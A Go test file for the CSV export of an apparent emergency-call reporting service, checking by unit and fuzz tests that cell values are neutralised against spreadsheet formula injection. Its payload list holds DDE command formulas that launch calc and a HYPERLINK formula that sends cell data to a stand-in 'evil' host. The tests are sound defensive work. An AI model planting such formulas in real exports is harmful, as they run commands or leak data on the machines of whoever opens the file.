package web

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/siaga112/siaga112/internal/csvsafe"
	"github.com/siaga112/siaga112/reports"
)

// cellSafe reports whether a spreadsheet would read cell as text or a plain
// number, never as a formula.
func cellSafe(cell string) bool {
	if cell == "" || strings.IndexByte("=+-@\t\r\n", cell[0]) < 0 {
		return true
	}
	return (cell[0] == '+' || cell[0] == '-') && csvsafe.SignedDecimal(cell)
}

// writeAndRead writes calls as CSV and parses the result back.
func writeAndRead(t testing.TB, calls []reports.CallRecord) [][]string {
	t.Helper()
	var buf bytes.Buffer
	if err := writeCallsCSV(&buf, localeOf(LangEN), calls, time.UTC); err != nil {
		t.Fatalf("writeCallsCSV: %v", err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v\n%s", err, buf.String())
	}
	if len(rows) != len(calls)+1 {
		t.Fatalf("%d rows for %d calls", len(rows), len(calls))
	}
	return rows
}

func TestCSVNeutralisesEveryColumn(t *testing.T) {
	payloads := []string{
		"-1+cmd|' /C calc'!A0", "+1+HYPERLINK(\"http://evil/?\"&A1,\"x\")", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1", "\r=1+1", "\n=1+1", "-", "+", "-1.", "+.5", "--1", "+1e5", "-0x10",
	}
	for _, p := range payloads {
		t.Run(p, func(t *testing.T) {
			c := reports.CallRecord{CallID: p, Node: p, Number: p, Outcome: p, EmergencyType: p, Verdict: p, Started: t0, Attempts: 1}
			rows := writeAndRead(t, []reports.CallRecord{c})
			for i, cell := range rows[1] {
				if !cellSafe(cell) {
					t.Errorf("column %s = %q runs as a formula", csvColumns[i], cell)
				}
			}
			for _, i := range []int{0, 1, 2, 7, 8, 15} { // call_id, node, number, outcome, emergency_type, verdict
				if rows[1][i] != "'"+p {
					t.Errorf("column %s = %q, want the value behind a quote", csvColumns[i], rows[1][i])
				}
			}
		})
	}
	t.Run("numbers stay numbers", func(t *testing.T) {
		c := reports.CallRecord{CallID: "1732700000.42", Node: "asterisk-1", Number: "+6281234567890", Outcome: "emergency",
			EmergencyType: "fire", Started: t0, SecondsToClassify: 3.5, DurationS: -1}
		row := writeAndRead(t, []reports.CallRecord{c})[1]
		if row[2] != "+6281234567890" || row[11] != "-1" || row[0] != "1732700000.42" || row[3] != t0.Format(time.RFC3339Nano) {
			t.Fatalf("row %q", row)
		}
	})
}

// FuzzCSV: whatever text reaches a call record, the CSV parses back to one
// row of the right width, no cell runs as a formula, and each text cell is
// its value, with at most a leading quote added.
func FuzzCSV(f *testing.F) {
	f.Add("-1+cmd|' /C calc'!A0", "asterisk-1", "+6281234567890", "emergency", "fire", "prank")
	f.Add("+1+HYPERLINK(\"x\")", "=1", "@x", "\t", "\r\n=", "\"")
	f.Add("1732700000.42", "", "", "", "", "")
	f.Add("a,b\"c\nd", "-", "+", "-1", "+1.5", "=")
	f.Fuzz(func(t *testing.T, callID, node, number, outcome, typ, verdict string) {
		if !utf8Valid(callID, node, number, outcome, typ, verdict) {
			// encoding/csv passes invalid UTF-8 through but its reader
			// rejects some of it; JSON decoding never hands it over.
			return
		}
		c := reports.CallRecord{CallID: callID, Node: node, Number: number, Outcome: outcome, EmergencyType: typ, Verdict: verdict}
		row := writeAndRead(t, []reports.CallRecord{c})[1]
		if len(row) != len(csvColumns) {
			t.Fatalf("%d cells, want %d", len(row), len(csvColumns))
		}
		for i, want := range map[int]string{0: callID, 1: node, 2: number, 7: outcome, 8: typ, 15: verdict} {
			got := row[i]
			if !cellSafe(got) {
				t.Fatalf("column %s = %q runs as a formula", csvColumns[i], got)
			}
			// The reader turns \r\n inside a quoted field into \n.
			want = strings.ReplaceAll(want, "\r\n", "\n")
			if got != want && got != "'"+want {
				t.Fatalf("column %s = %q, want %q", csvColumns[i], got, want)
			}
		}
	})
}

func utf8Valid(ss ...string) bool {
	for _, s := range ss {
		if !utf8.ValidString(s) {
			return false
		}
	}
	return true
}

// The CSV's times are local to the board's zone, with their offset.
func TestCSVLocalTimeWithOffset(t *testing.T) {
	wita, err := time.LoadLocation("Asia/Makassar")
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	started := time.Date(2026, 12, 2, 5, 0, 0, 0, time.UTC)
	if err := writeCallsCSV(&buf, localeOf(LangEN), []reports.CallRecord{{CallID: "c1", Started: started}}, wita); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), ",2026-12-02T13:00:00+08:00,") {
		t.Errorf("csv %q, want the start as 13:00 WITA with its +08:00 offset", buf.String())
	}
}
